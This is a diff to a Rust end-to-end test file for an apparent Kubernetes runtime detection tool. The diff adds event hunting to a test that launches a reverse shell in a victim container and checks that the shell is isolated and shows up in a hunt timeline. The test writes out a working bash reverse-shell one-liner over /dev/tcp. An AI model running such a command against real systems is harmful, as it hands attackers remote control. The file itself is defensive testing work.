@@ -11,12 +11,16 @@ use std::time::{Duration, Instant};
 use kube::Api;
 use kube::api::{ListParams, Patch, PatchParams};
 use riposte::detection::node::NodeSettings;
+use riposte::hunting::HuntingSink;
 use riposte::metrics::{DetectionMetrics, RuntimeMetrics};
 use riposte_crds::{Alert, ResponsePolicy};
 use riposte_detect::runtime::RuntimeConfig;
 use riposte_detect::runtime::rules::{ALERT_TYPES, PRIVILEGED_EXECUTION_IN_CONTAINER};
 use riposte_e2e::InProcessOperator;
 use riposte_e2e::node::{self, Cluster, NODE_NAME};
+use riposte_hunt::go_hunt::{Entities, go_hunt};
+use riposte_hunt::query::{Limits, run_local};
+use riposte_hunt::store::{Store, StoreSettings};
 use serde_json::json;
 
 const WAIT: Duration = Duration::from_secs(90);
@@ -45,6 +49,15 @@ impl Drop for NodeSensor {
 }
 
 async fn sensor(cluster: &Cluster, config: RuntimeConfig) -> NodeSensor {
+    sensor_keeping(cluster, config, riposte::hunting::HuntingSink::default()).await
+}
+
+/// The node sensor, keeping every event it evaluates in `hunting`.
+async fn sensor_keeping(
+    cluster: &Cluster,
+    config: RuntimeConfig,
+    hunting: riposte::hunting::HuntingSink,
+) -> NodeSensor {
     riposte::local::install_crds(&cluster.client).await.expect("the CRDs install");
     let settings = NodeSettings {
         node: NODE_NAME.into(),
@@ -53,7 +66,7 @@ async fn sensor(cluster: &Cluster, config: RuntimeConfig) -> NodeSensor {
         ebpf: true,
         tetragon_export: None,
         forget_isolated_connections: true,
-        hunting: riposte::hunting::HuntingSink::default(),
+        hunting,
     };
     let mut registry = Default::default();
     let metrics = DetectionMetrics::register(&mut registry);
@@ -357,7 +370,9 @@ async fn a_reverse_shell_is_isolated_and_its_connection_stops_answering(cluster:
         .patch("isolate-reverse-shells", &PatchParams::apply("riposte-tests").force(), &Patch::Apply(&policy))
         .await
         .expect("policy applied");
-    let _sensor = sensor(cluster, RuntimeConfig::default()).await;
+    let root = std::env::temp_dir().join(format!("riposte-node-hunting-{}", std::process::id()));
+    let store = Store::open(StoreSettings::new(&root, "node")).expect("the hunting store opens");
+    let _sensor = sensor_keeping(cluster, RuntimeConfig::default(), HuntingSink::new(store.clone(), "node")).await;
 
     // The shell, in the background of the victim: it lives until its connection ends.
     let script = format!("nohup bash -c 'bash -i >& /dev/tcp/{server}/4444 0>&1' >/dev/null 2>&1 &");
@@ -403,4 +418,23 @@ async fn a_reverse_shell_is_isolated_and_its_connection_stops_answering(cluster:
     };
     println!("  isolated → shell silent within {:?}", cut - isolated_at);
     cluster.stop_kube_router().await;
+
+    // Go hunt from the alert: the shell's commands in the victim, newest first.
+    let entities = Entities {
+        namespace: alert.spec.entities.namespace.clone(),
+        pod: alert.spec.entities.pod.clone(),
+        container: alert.spec.entities.container.clone(),
+        ..Entities::default()
+    };
+    let hunt = go_hunt(&entities, alert.spec.detected_at.0.as_microsecond()).expect("the alert names its pod");
+    let timeline = run_local(&store, &hunt, &Limits::default(), hunt.to).await.expect("the go hunt runs").rows;
+    let activity: Vec<String> = timeline.iter().map(|row| row[7].as_str().unwrap_or_default().to_owned()).collect();
+    let position = |needle: &str| activity.iter().position(|a| a.contains(needle));
+    let (shell, connect) = (position("bash -c \"bash -i >& /dev/tcp/"), position(&format!("connect {server}")));
+    assert!(shell.is_some() && connect.is_some(), "the go hunt shows the shell and its connection: {activity:#?}");
+    assert!(connect < shell, "newest first: the connection after the shell started: {activity:#?}");
+    let times: Vec<&str> = timeline.iter().map(|row| row[0].as_str().unwrap()).collect();
+    assert!(times.windows(2).all(|w| w[0] >= w[1]), "newest first: {times:?}");
+    drop(store);
+    let _ = std::fs::remove_dir_all(&root);
 }
